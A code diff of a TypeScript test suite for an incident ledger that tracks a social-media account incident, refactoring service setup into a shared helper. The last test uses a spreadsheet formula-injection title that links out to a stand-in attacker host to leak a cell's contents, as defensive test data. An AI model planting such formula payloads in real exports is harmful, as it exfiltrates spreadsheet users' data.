@@ -1,55 +1,11 @@
 import { createHash } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
 import { verifyAuditChain } from '#domain';
-import {
-  AccountRepository,
-  AssignmentRepository,
-  AuditLogRepository,
-  AuditLogService,
-  IncidentFactsRepository,
-  IncidentRepository,
-  IncidentSettingsRepository,
-  IncidentTimelineRepository,
-  OperatorRepository,
-  type OpenDatabase,
-} from '#persistence';
+import { AuditLogRepository } from '#persistence';
 import { CHRYSLER, seedChryslerCase } from '../../../../test/e2e/incidents-chrysler.fixture.js';
+import { by, incidentServices } from './incident-services.test-helper.js';
 import { useTestDatabase } from '../../../../test/support/test-database.js';
 import { readAuditExport } from './audit-export.reader.js';
-import { DetectionFactsLoader } from './detection-facts.loader.js';
-import { IncidentActionsService } from './incident-actions.service.js';
-import { IncidentDetectionService } from './incident-detection.service.js';
-import { IncidentExportService } from './incident-export.service.js';
-import { IncidentLedgerService } from './incident-ledger.service.js';
-import { IncidentSettingsService } from './incident-settings.service.js';
-
-function services(db: OpenDatabase) {
-  const ds = db.dataSource;
-  const incidents = new IncidentRepository(ds);
-  const timeline = new IncidentTimelineRepository(ds);
-  const audit = new AuditLogService(ds);
-  const settings = new IncidentSettingsRepository(ds);
-  const loader = new DetectionFactsLoader(
-    new AccountRepository(ds),
-    new OperatorRepository(ds),
-    new AssignmentRepository(ds),
-    new IncidentFactsRepository(ds),
-    settings,
-  );
-  const ledger = new IncidentLedgerService(ds, incidents, timeline, audit);
-  return {
-    incidents,
-    timeline,
-    audit,
-    ledger,
-    detection: new IncidentDetectionService(loader, incidents, ledger),
-    actions: new IncidentActionsService(ds, incidents, timeline, audit),
-    settings: new IncidentSettingsService(ds, settings, audit),
-    exports: new IncidentExportService(incidents, timeline, new AuditLogRepository(ds)),
-  };
-}
-
-const by = (minutes: number) => ({ actor: 'cli:auditor', at: new Date(Date.UTC(2011, 2, 10, 9, minutes)) });
 
 describe('the incident ledger on the Chrysler case', () => {
   const t = useTestDatabase();
@@ -61,7 +17,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('detection records one critical incident, attributed to the agency, contained by the deletion', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const run = await s.detection.detect(workspaceId, { by: by(0) });
     expect(run.hitsByRule).toEqual({ content: 1, 'off-duty-publication': 1, 'engagement-anomaly': 1 });
     expect(run.created).toHaveLength(1);
@@ -89,7 +45,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('running detection again changes nothing and writes nothing', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const before = (await s.audit.verify(workspaceId)).head;
     const run = await s.detection.detect(workspaceId, { by: by(5) });
     expect(run).toMatchObject({ created: [], updated: [], unchanged: 1 });
@@ -97,7 +53,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('a person reporting the same post adds to that incident, with the evidence hashed', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const result = await s.ledger.reportManual(
       workspaceId,
       {
@@ -131,7 +87,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('resolving, commenting: the timeline and the audit log both tell it', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const [incident] = await s.incidents.list(workspaceId);
     await s.actions.comment(workspaceId, incident.id, 'Agency contract under review.', by(20));
     const resolved = await s.actions.changeStatus(workspaceId, incident.id, 'resolved', {
@@ -162,7 +118,7 @@ describe('the incident ledger on the Chrysler case', () => {
 
   test('a narrower allow-list adds the wrong-account hit to the incident, without reopening it', async () => {
     // HootSuite was allowed when the post went out; an auditor narrows the list to the agency's Sprout Social.
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const account = { id: accountId, handle: CHRYSLER.handle };
     await s.settings.disallowApplication(workspaceId, account, 'HootSuite', by(40));
     await s.settings.allowApplication(workspaceId, account, 'Sprout Social', by(40));
@@ -179,7 +135,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('exports of the period parse back to what the ledger holds; the audit export verifies on its own', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const period = {
       workspace: { id: workspaceId, slug: CHRYSLER.workspace },
       from: new Date('2011-03-01T05:00:00Z'),
@@ -210,7 +166,7 @@ describe('the incident ledger on the Chrysler case', () => {
   });
 
   test('a title that a spreadsheet would run as a formula is exported as text, and the audit export still verifies', async () => {
-    const s = services(t.db);
+    const s = incidentServices(t.db);
     const title = '=HYPERLINK("http://evil.example/?"&A1,"open the evidence")';
     const { id } = await s.ledger.reportManual(
       workspaceId,
